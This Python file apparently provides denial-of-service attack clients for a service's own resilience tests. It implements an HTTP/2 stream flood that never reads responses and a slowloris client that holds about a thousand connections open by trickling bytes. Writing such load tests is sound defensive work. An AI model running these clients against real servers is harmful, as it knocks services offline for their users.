"""Attack clients for tests/service/test_stream_limits.py and test_slowloris.py, each run in its own process
(`python h2_attacks.py control-flood|slowloris ...`):

- `control-flood`: raw HTTP/2 connections, each with several `Control` streams that keep sending act commands and
  never read an answer (no WINDOW_UPDATE is ever sent, so the server's send window goes to 0). It reads the
  server's frames only to learn its SETTINGS and WINDOW_UPDATEs, and sends exactly as much as the server's
  flow-control window allows (it is a well-behaved HTTP/2 peer in everything but reading).
- `slowloris`: many TCP connections to the REST port, each sending the headers of a request one byte at a time
  (`--body`: whole headers with `Content-Length: 100000`, then the body one byte at a time)
  and never finishing them.

Each prints JSON lines (`progress`; `ready` once slowloris has opened its connections; `done`, a summary) and
stops after its time limit or when its stdin is closed.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import resource
import socket
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

from gmt.v1 import policy_pb2 as pb

CONTROL = "/gmt.v1.PolicyService/Control"


def say(**kw) -> None:
    print(json.dumps(kw), flush=True)


def control_message(session_id: str, obs_dim: int) -> bytes:
    """One gRPC-framed ControlRequest acting for `session_id`."""
    req = pb.ControlRequest(
        act=pb.ActRequest(session_id=session_id, values=pb.FloatVector(values=[0.1] * obs_dim))
    )
    body = req.SerializeToString()
    return b"\x00" + struct.pack(">I", len(body)) + body


class FloodStats:
    def __init__(self) -> None:
        self.sent_bytes = 0
        self.sent_messages = 0
        self.received_bytes = 0
        self.streams_open = 0
        self.stream_ends: dict[str, int] = {}  # why streams ended: reset codes, grpc-status values
        self.connections_lost = 0
        self.settings: dict[int, int] = {}  # the largest value of each SETTINGS parameter the server sent
        self.window_updates = 0  # bytes of window the server granted by WINDOW_UPDATE


async def flood_connection(
    host: str,
    port: int,
    sids: list[str],
    obs_dim: int,
    deadline: float,
    stop: threading.Event,
    stats: FloodStats,
) -> None:
    """One HTTP/2 connection with one Control stream per session id in `sids`, sending until `deadline` or
    `stop`."""
    reader, writer = await asyncio.open_connection(host, port)
    # h2's default receive window (64 KiB per stream and for the connection), never re-opened.
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    streams: dict[int, bytes] = {}
    for sid in sids:
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(
            stream_id,
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", CONTROL),
                (":authority", f"{host}:{port}"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
                ("x-session-id", sid),
            ],
        )
        streams[stream_id] = control_message(sid, obs_dim)
    stats.streams_open += len(streams)
    writer.write(conn.data_to_send())
    window_opened = asyncio.Event()

    def ended(stream_id: int, why: str) -> None:
        stats.stream_ends[why] = stats.stream_ends.get(why, 0) + 1
        streams.pop(stream_id, None)

    async def read_frames() -> None:
        """Take in what the server sends (SETTINGS, WINDOW_UPDATE, answers that are never acknowledged) until
        it closes the connection."""
        with contextlib.suppress(ConnectionError, h2.exceptions.ProtocolError):
            await read_until_closed()

    async def read_until_closed() -> None:
        while data := await reader.read(65536):
            stats.received_bytes += len(data)
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.StreamReset):
                    ended(event.stream_id, f"reset:{int(event.error_code)}")
                elif isinstance(event, h2.events.TrailersReceived | h2.events.ResponseReceived):
                    status = dict(event.headers).get("grpc-status")
                    if status is not None:
                        ended(event.stream_id, f"grpc-status:{status}")
                elif isinstance(event, h2.events.RemoteSettingsChanged):
                    for k, v in event.changed_settings.items():
                        stats.settings[int(k)] = max(stats.settings.get(int(k), 0), v.new_value)
                elif isinstance(event, h2.events.WindowUpdated):
                    stats.window_updates += event.delta
                elif isinstance(event, h2.events.ConnectionTerminated):
                    return
            writer.write(conn.data_to_send())  # PING and SETTINGS acks (never a WINDOW_UPDATE)
            window_opened.set()

    frames = asyncio.create_task(read_frames())
    try:
        while time.monotonic() < deadline and streams and not stop.is_set() and not frames.done():
            sent = False
            for stream_id, msg in list(streams.items()):
                try:
                    window = min(conn.local_flow_control_window(stream_id), conn.max_outbound_frame_size)
                except (h2.exceptions.StreamClosedError, KeyError):
                    streams.pop(stream_id, None)
                    continue
                n = window // len(msg)  # negative after the server's SETTINGS lowered the window
                if n > 0:
                    conn.send_data(stream_id, msg * n)
                    stats.sent_bytes += n * len(msg)
                    stats.sent_messages += n
                    sent = True
            writer.write(conn.data_to_send())
            await writer.drain()
            if sent:
                await asyncio.sleep(0)  # let the reader in
            else:  # no window left: wait for the server to open some
                window_opened.clear()
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(window_opened.wait(), 0.1)
        if frames.done():
            stats.connections_lost += 1
    except (ConnectionError, h2.exceptions.ProtocolError):
        stats.connections_lost += 1
    finally:
        frames.cancel()
        writer.close()


async def control_flood(args) -> None:
    sids = args.sessions.split(",")
    stats = FloodStats()
    deadline = time.monotonic() + args.seconds
    stop = watch_stdin()
    per = args.streams
    tasks = [
        asyncio.create_task(
            flood_connection(
                args.host,
                args.port,
                [sids[(c * per + i) % len(sids)] for i in range(per)],
                args.obs_dim,
                deadline,
                stop,
                stats,
            )
        )
        for c in range(args.connections)
    ]
    t0 = time.monotonic()
    while time.monotonic() < deadline and not stop.is_set() and not all(t.done() for t in tasks):
        await asyncio.sleep(0.5)
        say(
            event="progress",
            t=round(time.monotonic() - t0, 1),
            sent_bytes=stats.sent_bytes,
            sent_messages=stats.sent_messages,
            streams_open=stats.streams_open,
        )
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    say(
        event="done",
        sent_bytes=stats.sent_bytes,
        sent_messages=stats.sent_messages,
        received_bytes=stats.received_bytes,
        stream_ends=stats.stream_ends,
        connections_lost=stats.connections_lost,
        settings=stats.settings,
        window_updates=stats.window_updates,
    )


def watch_stdin() -> threading.Event:
    """An event set when the parent closes our stdin (or dies)."""
    closed = threading.Event()

    def read() -> None:
        sys.stdin.read()
        closed.set()

    threading.Thread(target=read, daemon=True).start()
    return closed


def slowloris(args) -> None:
    """Open `connections` sockets, each sending a request's headers one byte per `interval`, never finishing them;
    count the connections the server closes (or answers: a 408)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = args.connections + 64
    if soft != resource.RLIM_INFINITY and soft < want:
        resource.setrlimit(
            resource.RLIMIT_NOFILE, (want if hard == resource.RLIM_INFINITY else min(want, hard), hard)
        )
    stop = watch_stdin()
    if args.body:  # whole headers at once, then the body one byte per interval
        head = (
            f"POST /sessions HTTP/1.1\r\nHost: {args.host}\r\nUser-Agent: slowloris\r\n"
            "Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
        ).encode()
        first = len(head) + 1
        head += b" " * 100_000
    else:
        head = f"GET /healthz HTTP/1.1\r\nHost: {args.host}\r\nUser-Agent: slowloris\r\nX-Padding: ".encode()
        head += b"x" * 100_000
        first = 1
    socks: dict[socket.socket, int] = {}  # socket -> bytes sent
    refused = closed = answered = 0
    deadline = time.monotonic() + args.seconds
    for _ in range(args.connections):
        s = socket.socket()
        s.settimeout(2)
        try:
            s.connect((args.host, args.port))
            s.sendall(head[:first])
            s.setblocking(False)
            socks[s] = first
        except OSError:
            refused += 1
            s.close()
    say(event="ready", open=len(socks), refused=refused)
    while socks and not stop.wait(args.interval) and time.monotonic() < deadline:
        for s, n in list(socks.items()):
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                data = None
            except OSError:
                data = b""
            if data is not None:  # the server closed it, or answered it (and closes it)
                answered += bool(data)
                closed += not data
                del socks[s]
                s.close()
                continue
            try:
                s.send(head[n : n + 1])
                socks[s] = n + 1
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                closed += 1
                del socks[s]
                s.close()
        say(event="progress", open=len(socks), closed=closed, answered=answered)
    say(event="done", open=len(socks), closed=closed, answered=answered, refused=refused)
    for s in socks:
        s.close()


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__)
    sub = p.add_subparsers(dest="cmd", required=True)
    f = sub.add_parser("control-flood")
    f.add_argument("--host", default="127.0.0.1")
    f.add_argument("--port", type=int, required=True)
    f.add_argument("--connections", type=int, default=10)
    f.add_argument("--streams", type=int, default=10, help="Control streams per connection")
    f.add_argument("--sessions", required=True, help="comma-separated session ids (reused round-robin)")
    f.add_argument("--obs-dim", type=int, default=17)
    f.add_argument("--seconds", type=float, default=30)
    s = sub.add_parser("slowloris")
    s.add_argument("--host", default="127.0.0.1")
    s.add_argument("--port", type=int, required=True)
    s.add_argument("--connections", type=int, default=1100)
    s.add_argument("--interval", type=float, default=1.0, help="seconds between bytes")
    s.add_argument("--seconds", type=float, default=30)
    s.add_argument("--body", action="store_true", help="send whole headers, then trickle a 100,000-byte body")
    args = p.parse_args()
    if args.cmd == "control-flood":
        asyncio.run(control_flood(args))
    else:
        slowloris(args)


if __name__ == "__main__":
    main()
